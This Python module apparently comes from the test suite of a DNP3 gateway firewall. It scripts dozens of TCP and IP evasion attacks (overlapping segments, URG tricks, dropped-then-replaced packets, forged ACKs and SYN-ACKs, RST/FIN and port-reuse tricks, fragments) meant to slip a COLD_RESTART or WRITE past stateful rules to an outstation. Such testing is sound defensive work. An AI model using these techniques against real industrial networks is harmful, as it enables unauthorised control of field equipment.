# SPDX-License-Identifier: GPL-2.0
"""What a host that forges TCP segments does to have an outstation execute what the gateway does not allow.

Each attack is a function of a session from one port. Where nobody follows the stream, it succeeds: with the policy
that is its `control`, an outstation executes a COLD_RESTART (or a WRITE). The gateway's rules that follow the
stream let each begin, and never come to that.
"""

import socket
import time

import nfqueue
import wire
from network import Wrong, until, within
from wire import ACK, B, BEGINNING, FIN, HEAD, INNER, LINK, OTHER, PSH, READ, RESTART, RST, SYN, TAIL, URG

ALL = {}


class Attack:
    """A function, and what it needs."""

    def __init__(self, function, control="none", extras=(), policies=("tracked", "lax", "deny"), hosts=("recorder", "opendnp3"),
                 families=("ipv4", "ipv6"), stamped=False, isn=None):
        self.function, self.name = function, function.__name__
        self.control, self.extras, self.policies, self.hosts = control, extras, policies, hosts
        self.families = families
        self.how = {"stamped": stamped, "isn": isn}

    def run(self, world, host):
        session = world.session(host, **self.how)
        self.function(session)
        return session


def attack(**how):
    def take(function):
        ALL[function.__name__] = Attack(function, **how)
        return function
    return take


def each(values, **how):
    """An attack for each of these, whose name ends in the key; `needs` is beside `how`."""
    def take(function):
        for name, value in values.items():
            own = dict(how)
            own.update(value.pop("needs", {}))

            def one(session, value=value):
                function(session, **value)
            one.__name__ = f"{function.__name__}_{name}".rstrip("_")
            ALL[one.__name__] = Attack(one, **own)
        return function
    return take


def fill(s, at):
    """opendnp3 waits for all octets that a frame claims, before it finds it wrong and searches in it."""
    s.send(at, LINK * 30)


# The frames themselves, in all that can be done to a segment.

@attack()
def plain_restart(s):
    s.open()
    s.send(0, RESTART)


@attack()
def plain_write(s):
    s.open()
    s.send(0, wire.WRITE)


@attack()
def behind_a_read(s):
    s.open()
    s.send(0, READ + RESTART)


@attack()
def segments_of_one_octet(s):
    s.open()
    for at, octet in enumerate(READ + RESTART):
        s.send(at, bytes([octet]))


@attack()
def cut_in_two(s):
    s.open()
    s.send(0, RESTART[:5])
    s.send(5, RESTART[5:])


@attack()
def the_second_half_first(s):
    s.open()
    s.send(5, RESTART[5:])
    s.send(0, RESTART[:5])


@attack()
def short_fir(s):
    s.open()
    s.send(0, wire.frame(bytes.fromhex("40c0")))
    s.send(len(wire.frame(bytes(2))), wire.frame(bytes.fromhex("810d")))


@attack(policies=("tracked", "lax", "deny", "others"), hosts=("recorder",))
def broadcast(s):
    s.open()
    s.send(0, wire.frame(bytes.fromhex("c0c00d"), destination=65533))


@attack(control="stateless", policies=("tracked", "lax"), hosts=("recorder",))
def a_continuation_of_nothing(s):
    s.open()
    s.send(0, wire.frame(bytes.fromhex("80c00d")))


@attack()
def in_a_frame_with_a_wrong_crc(s):
    s.open()
    s.send(0, B[:12] + bytes([B[12] ^ 1]) + B[13:])
    fill(s, len(B))


@attack()
def a_frame_takes_the_next_header(s):
    """Mixing: the header of a frame, and a valid packet that is read as its body."""
    s.open()
    s.send(0, BEGINNING)
    s.send(INNER, B)


# URG: receivers take the urgent octet out of the stream.

@attack()
def urgent_without_payload(s):
    s.open()
    s.send(0, b"", ACK | URG, urgent=1)
    s.send(0, B)
    fill(s, len(B))


@attack()
def urgent_first_octet(s):
    s.open()
    s.send(0, B, ACK | PSH | URG, urgent=1)
    fill(s, len(B))


@attack()
def urgent_in_the_header(s):
    """On the wire there is no right header."""
    s.open()
    s.send(0, RESTART[:4] + b"\xee" + RESTART[4:], ACK | PSH | URG, urgent=5)


@attack()
def urgent_in_what_comes_later(s):
    """The pointer of an empty segment points into the segment after the next."""
    s.open()
    s.send(0, b"", ACK | URG, urgent=len(LINK) + 1)
    s.send(0, LINK)
    s.send(len(LINK), B)
    fill(s, len(LINK) + len(B))


# Overlaps, where the receiver cuts off what it has.


@each({"of_28_octets": {}, "at_the_wrap": {"needs": {"isn": 0xFFFFFFFF - 14}},
       "on_the_wrap": {"needs": {"isn": 0xFFFFFFFF - 10}}, "behind_the_wrap": {"needs": {"isn": 0xFFFFFFFF}}},
      control="stateless")
def overlap(s):
    s.open()
    s.send(0, LINK)
    s.send(len(LINK) - INNER, B)


@each({"": {}, "at_the_wrap": {"needs": {"isn": 0xFFFFFFFF}}, "below_the_wrap": {"needs": {"isn": 10}}},
      control="stateless")
def begins_before_the_first_octet(s):
    s.open()
    s.send(-INNER, B)


@attack(control="stateless")
def overlap_after_the_ack(s):
    s.open()
    s.send(0, OTHER)
    s.settle()
    s.send(0, b"", ACK)
    s.send(0, B)


@attack(control="stateless")
def overlap_before_the_ack(s):
    """Two packets at the same place, each valid, the second longer."""
    s.open()
    s.send(0, OTHER)
    s.send(0, B)


@attack(control="stateless")
def overlap_far_behind(s):
    """The same, when so much has passed that the first octets are not kept."""
    s.open()
    s.send(0, OTHER)
    at = len(OTHER)
    for _ in range(5):
        s.send(at, LINK * 100)
        at += 1000
        s.settle()
        s.send(at, b"", ACK)
    s.send(at - INNER, B)


@attack()
def retransmission_in_other_cuts(s):
    """The same octets in other cuts, one of which goes on."""
    s.open()
    stream = READ + B
    for cuts in ((0, 10, 40), (0, 3, 30, 45), (5, 45, 62)):
        for begin, end in zip(cuts, cuts[1:]):
            s.send(begin, stream[begin:end])
    s.send(40, stream[40:] + RESTART)
    s.send(60, stream[60:] + RESTART)


# A packet that the gateway lets through and the receiver does not take; then another in its place.

LOST = {
    "low_ttl": {"ttl": 2},
    "stale_timestamp": {"stamp": -100_000, "needs": {"stamped": True}},
    "md5_option": {"options": wire.MD5},
    "wrong_checksum": {"wrong": True},
    "ack_of_what_was_not_sent": {"unsent": True},
    "no_ack_flag": {"flags": PSH},
    "fin": {"ttl": 2, "flags": ACK | PSH | FIN},
    "rst": {"ttl": 2, "flags": ACK | PSH | RST},
    "odd_flags": {"ttl": 2, "flags": 0xC0 | ACK | PSH},
}


def lose(s, at, octets, unsent=False, **how):
    if unsent:
        how["ack"] = s.theirs + 1_000_000
    s.send(at, octets, **how)


def replace(s, at):
    s.send(at + INNER, TAIL)
    s.send(at, OTHER)


@each({name: dict(how) for name, how in LOST.items()})
def replaced_when_lost_by(s, **how):
    s.open()
    s.send(0, READ)
    lose(s, len(READ), HEAD, **how)
    replace(s, len(READ))


@each({"": {}, "in_other_cuts": {"cuts": (0, 10, 28)}, "octet_by_octet": {"cuts": range(29)}})
def replaced_after_a_forged_ack(s, cuts=(0, 28)):
    s.open()
    lose(s, 0, HEAD, ttl=2)
    s.forge_ack(INNER)
    s.send(INNER, TAIL)
    s.forge_ack(len(B))
    for begin, end in zip(cuts, cuts[1:]):
        s.send(begin, OTHER[begin:end])


@attack()
def replaced_after_forged_acks_of_more_than_is_kept(s):
    s.open()
    lose(s, 0, HEAD, ttl=2)
    s.send(INNER, TAIL)
    at = len(B)
    for _ in range(8):
        s.send(at, LINK * 100)
        at += 1000
        s.forge_ack(at)
    s.send(0, OTHER)


@attack(stamped=True)
def the_stale_read_and_the_forged_ack(s):
    """A READ that the receiver discards, an ACK that the attacker makes, a COLD_RESTART in its place."""
    s.open()
    s.send(0, LINK)
    s.send(len(LINK), READ[:15], stamp=-100_000)
    s.forge_ack(len(LINK) + 15)
    s.send(len(LINK), RESTART)


@attack()
def forged_acks_from_both_sides(s):
    s.open()
    lose(s, 0, HEAD, ttl=2)
    for far in (INNER, 10_000, 1 << 30, (1 << 31) - 1, 1 << 31, -1):
        s.forge_ack(far)
        s.send(0, b"", ACK, ack=s.theirs + far, ttl=2)
    replace(s, 0)


@attack(hosts=("recorder",))
def replaced_behind_a_closed_window(s):
    """The receiver's application reads nothing, until there is no room for what was let through."""
    recorder, some = s.world.recorder, LINK * 20
    recorder.listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    recorder.paused = True
    try:
        s.open()
        for at in range(len(some), 500 * len(some), len(some)):
            s.send(at - len(some), some)
            # What is old is acknowledged at once, with all that has come.
            s.send(0, LINK)
            acks = s.settle()
            if acks and acks[-1].acknowledgement != s.isn + 1 + at:
                break
        else:
            raise Wrong("the window stays open")
        s.send(at, HEAD)
        s.settle()
    finally:
        recorder.paused = False
        recorder.listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 131072)
    recorder.read()
    s.send(at - len(some), some)
    s.settle()
    replace(s, at)


# SYN, FIN, RST.

@attack()
def syn_with_data(s):
    """The receiver does not take the octets; who counts them stands 28 octets further on."""
    s.syn(HEAD)
    s.answered()
    s.send(0, TAIL)


@attack(hosts=("recorder",))
def syn_with_data_that_is_taken(s):
    """TCP Fast Open."""
    def put(value):
        with within("outstation"), open("/proc/sys/net/ipv4/tcp_fastopen", "w", encoding="ascii") as file:
            file.write(value)
    put(str(0x2 | 0x200 | 0x400))
    try:
        listener = s.world.recorder.listener
        listener.setsockopt(socket.IPPROTO_TCP, 23, 16)
        # An empty cookie, which nobody looks at.
        s.send(-1, RESTART, SYN, options=wire.MSS + bytes.fromhex("0101220a0102030405060708"))
        s.answered()
        s.settle()
    finally:
        put("1")


@attack()
def fin_with_data(s):
    s.open()
    s.send(0, READ + RESTART, ACK | PSH | FIN)


@attack()
def data_behind_a_lost_fin(s):
    """Who takes a FIN for an octet stands one further on than the receiver."""
    s.open()
    s.send(0, LINK)
    s.send(len(LINK), b"", ACK | FIN, ttl=2)
    s.send(len(LINK), HEAD)
    s.send(len(LINK) + INNER, TAIL + RESTART)


@attack()
def data_behind_a_fin_that_is_replaced(s):
    s.open()
    lose(s, 0, HEAD, ttl=2, flags=ACK | PSH | FIN)
    s.send(INNER, TAIL)
    s.send(INNER + 1, TAIL)
    s.send(0, OTHER)


@attack()
def data_behind_a_lost_rst(s):
    """The gateway sees the end of a connection, and the receiver does not."""
    s.open()
    s.send(0, BEGINNING)
    s.send(INNER, b"", RST, ttl=2)
    s.send(INNER, B)


@attack()
def data_behind_an_rst_that_is_not_taken(s):
    """It lies in the window, and not where the next octet is expected."""
    s.open()
    s.send(0, BEGINNING)
    s.send(INNER + 50, b"", RST)
    s.send(INNER, B)


@attack()
def another_syn_in_the_middle(s):
    """The gateway is to begin anew, and the receiver goes on where it was."""
    s.open()
    s.send(0, BEGINNING)
    before = s.isn
    for _ in range(2):
        s.isn = before + INNER
        s.syn(ttl=2)
    s.send(0, B)


# The same ports again.

@attack(hosts=("recorder",))
def ports_again_while_established(s):
    """The outstation's host has forgotten the connection, and conntrack has not."""
    s.open()
    s.send(0, HEAD)
    s.settle()
    s.world.recorder.forget()
    again(s)


@attack(hosts=("recorder",))
def the_old_octets_when_the_host_has_forgotten(s):
    """The new connection's first octet has the number that the gateway expects next of the old one."""
    s.open()
    s.send(0, HEAD)
    s.settle()
    s.world.recorder.forget()
    again(s, INNER)


@attack(hosts=("recorder",), policies=("lax",))
def ports_again_a_second_later(s):
    """The gateway takes a SYN with another number for a new connection when it comes again in another second."""
    s.open()
    s.send(0, HEAD)
    s.settle()
    s.world.recorder.forget()
    s.isn += INNER
    for _ in range(4):
        s.syn()
        if s.answered():
            break
        # The kernel's seconds come a tick late.
        sent = time.monotonic()
        until(lambda sent=sent: time.monotonic() > sent + 1.1, "another second")
    else:
        raise Wrong("the new connection does not come")
    s.send(0, TAIL)


@attack()
def ports_again_after_rst(s):
    s.open()
    s.send(0, HEAD)
    s.send(INNER, b"", RST)
    again(s)


@attack()
def ports_again_after_fin(s):
    s.open()
    s.send(0, HEAD, ACK | PSH | FIN)
    s.settle()
    s.send(INNER + 1, b"", RST)
    again(s)


@attack(hosts=("recorder",))
def ports_again_after_fin_of_both(s):
    s.open()
    s.send(0, HEAD, ACK | PSH | FIN)
    s.settle()
    for connection in s.world.recorder.open:
        connection.close()
    s.world.recorder.open.clear()
    s.settle()
    s.send(INNER + 1, b"", ACK, ack=s.theirs + 1)
    s.settle()
    # TIME_WAIT is with who closed first, and that was the attacker.
    again(s)


def again(s, more=100_000):
    """A connection from the same port, and the rest of what was begun as its first octets."""
    s.isn += more
    for _ in range(3):
        s.syn()
        if s.answered():
            break
    s.send(0, TAIL)


@attack()
def the_old_octets_in_a_new_connection(s):
    """The rest of a frame has the sequence numbers with which the new connection begins."""
    s.open()
    s.send(0, HEAD)
    s.send(INNER, b"", RST)
    s.isn += INNER
    for _ in range(3):
        s.syn()
        if s.answered():
            break
    s.send(0, TAIL)
    # And once more, as if it began where the old one did.
    s.send(-INNER, B)


@attack(hosts=("recorder",), policies=("lax",))
def simultaneous_open(s):
    """The outstation's host opens, and so does the attacker."""
    world = s.world
    with within("outstation"):
        other = socket.socket(wire.FAMILIES[world.family])
    other.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    other.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    other.setblocking(False)
    other.bind((world.host("recorder"), wire.PORT))
    other.connect_ex((world.host("attacker"), s.port))
    came = [one for one in s.settle() if one.flags == SYN]
    if not came:
        raise Wrong("the outstation's SYN did not come")
    s.theirs = came[0].sequence + 1
    s.syn()
    s.settle()
    s.send(-1, b"", SYN | ACK)
    s.send(0, b"", ACK)
    s.settle()
    world.recorder.add(other, s.port)
    s.send(-INNER, B)


def hijack(s):
    """A connection that the gateway takes for a new one: its SYN expires, and who answers is the attacker."""
    s.isn += INNER
    s.syn(ttl=2)
    s.settle()
    s.send(0, b"", SYN | ACK, reverse=True, sequence=s.theirs - 1, ack=s.isn + 1)
    s.settle()
    s.send(0, b"", ACK)
    s.send(0, B)


# The control is the gateway which believes such answers: it is in `alone`.
@attack()
def a_forged_syn_ack_after_rst(s):
    s.open()
    s.send(0, BEGINNING)
    s.send(INNER, b"", RST, ttl=2)
    hijack(s)


@attack()
def a_forged_syn_ack_after_a_flush(s):
    s.open()
    s.send(0, BEGINNING)
    s.settle()
    s.world.flush_conntrack()
    hijack(s)


@attack()
def a_forged_syn_ack_first(s):
    """The attacker's answer comes before the outstation's, and puts the other direction elsewhere."""
    s.syn(ttl=2)
    s.send(0, b"", SYN | ACK, reverse=True, sequence=777, ack=s.isn + 1)
    came = any(one.flags & SYN and one.sequence == 777 for one in s.settle())
    if came != (s.world.policy == "none"):
        raise Wrong(f"an answer from the wrong side {'came through' if came else 'is lost without any rule'}")
    s.send(0, b"", ACK, ack=778)
    lose(s, 0, HEAD, ttl=2)
    s.settle()
    s.syn()
    s.answered()
    replace(s, 0)


# The gateway itself.

@attack(control="stateless")
def older_than_the_rules(s):
    """A connection that was there before: it is reset, and comes back."""
    world = s.world
    world.restore(world.rules("none"))
    s.open()
    s.send(0, BEGINNING)
    s.settle()
    world.restore(world.rules(world.policy))
    s.send(INNER, B)
    if world.policy == "tracked" and not s.was_reset():
        raise Wrong("a connection older than the rules was not reset")


@attack()
def rules_replaced_in_mid_frame(s):
    s.open()
    s.send(0, BEGINNING)
    s.settle()
    s.world.restore(s.world.rules(s.world.policy))
    s.send(INNER, B)


@attack()
def rules_gone_and_back_in_mid_frame(s):
    """No tracking rule is left for a moment, and nothing is known of any connection."""
    s.open()
    s.send(0, BEGINNING)
    s.settle()
    s.world.restore(s.world.rules("none"))
    s.world.restore(s.world.rules(s.world.policy))
    s.send(INNER, B)


@attack()
def conntrack_flushed_in_mid_frame(s):
    s.open()
    s.send(0, BEGINNING)
    s.settle()
    s.world.flush_conntrack()
    s.send(INNER, B)


@attack()
def conntrack_flushed_before_the_replacement(s):
    s.open()
    lose(s, 0, HEAD, ttl=2)
    s.send(INNER, TAIL)
    s.settle()
    s.world.flush_conntrack()
    s.send(0, OTHER)


@attack(extras=("tee",))
def a_copy_by_tee(s):
    """What the rules refuse goes to a monitor, and must not count as sent."""
    s.open()
    s.send(0, RESTART)
    s.send(0, RESTART)
    s.send(0, RESTART + LINK)


@each({"overlap": {"at": len(LINK) - INNER, "first": LINK}, "lost": {"at": 0, "first": b""}},
      extras=("nat",), hosts=("gateway",))
def through_nat(s, at, first):
    s.open()
    s.send(0, first or HEAD, ttl=64 if first else 2)
    if first:
        s.send(at, B)
    else:
        replace(s, 0)


@attack(extras=("nat",), hosts=("gateway",))
def ports_again_through_nat(s):
    ports_again_after_rst(s)


@each({"in_order": {"order": (0, 1)}, "in_the_other_order": {"order": (1, 0)}}, extras=("queue",), control="stateless")
def two_packets_judged_on_the_same_state(s, order):
    waiting(s, order, OTHER, B)


@each({"in_order": {"order": (0, 1)}, "in_the_other_order": {"order": (1, 0)}}, extras=("queue",))
def two_beginnings_judged_on_the_same_state(s, order):
    waiting(s, order, BEGINNING, OTHER + B)


def waiting(s, order, *segments):
    """They are sent in this order, judged on the same state, and go on as they stand here."""
    with nfqueue.Queue() as queue:
        s.open()
        for place in order:
            s.send(0, segments[place])
        s.settle()
        queue.wait(len(segments))
        # The one that was sent first is at the queue's head.
        for _ in segments:
            queue.release(0 if order[0] == 0 else len(queue.waiting) - 1)
        s.settle()


@each({"rst": {"flags": RST}, "fin": {"flags": ACK | FIN}}, extras=("queue",), hosts=("recorder",))
def a_queued_packet_across_port_reuse_after(s, flags):
    """Judged on one connection as the rest of a frame, it goes on in another, as a frame of its own. Linux would
    look at its acknowledgement number too, which the attacker would have to guess: what counts is whether it
    goes on."""
    with nfqueue.Queue() as queue, within("router"), listener("rg") as behind:
        s.open()
        s.send(0, HEAD)
        s.settle()
        queue.wait(1)
        queue.release()
        s.settle()
        s.send(INNER, TAIL)
        s.settle()
        queue.wait(1)
        s.send(INNER + len(TAIL) if flags & FIN else INNER, b"", flags)
        s.settle()
        s.world.recorder.forget()
        s.send(INNER, b"", RST, ttl=2)
        s.isn += INNER
        for _ in range(3):
            s.syn()
            if s.answered():
                break
        else:
            raise Wrong("no connection")
        s.settle()
        drain(behind)
        queue.release()
        s.settle()
        for came in drain(behind):
            if came.port == wire.PORT and came.payload and came.sequence == s.isn + 1:
                s.world.recorder.connections.append((s.port, bytearray(came.payload)))


def listener(device):
    """A packet socket, for what comes in there."""
    packets = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    packets.bind((device, 0))
    packets.setblocking(False)
    return packets


def drain(packets):
    all_of_them = []
    while True:
        try:
            packet = packets.recv(65536)
        except BlockingIOError:
            return all_of_them
        if packet[0] >> 4 in (4, 6):
            all_of_them.append(wire.Came(packet))


# IP.

@attack()
def in_a_packet_of_several_segments(s):
    s.open()
    s.send_at_once(0, READ + RESTART, len(READ))


@attack(control="stateless")
def overlap_by_a_packet_of_several_segments(s):
    """Each of its segments would be malformed by itself."""
    s.open()
    s.send(0, LINK)
    s.send_at_once(len(LINK) - INNER, B + LINK, len(B) - 2)


@attack()
def in_fragments(s):
    s.open()
    whole = s.segment(0, RESTART)
    header = 20 if whole[0] >> 4 == 4 else 40
    ends = [s.world.octets("attacker"), s.world.octets(s.host)]
    segment = whole[header:]
    for begin, end in ((0, 24), (24, len(segment))):
        s.world.write(wire.ip(*ends, wire.TCP, segment[begin:end], fragment=(begin, end < len(segment)),
                              identity=s.port))


@attack(families=("ipv6",))
def behind_an_extension_header(s):
    s.open()
    s.send(0, RESTART, ip={"header": bytes([0, 0, 1, 4, 0, 0, 0, 0])})
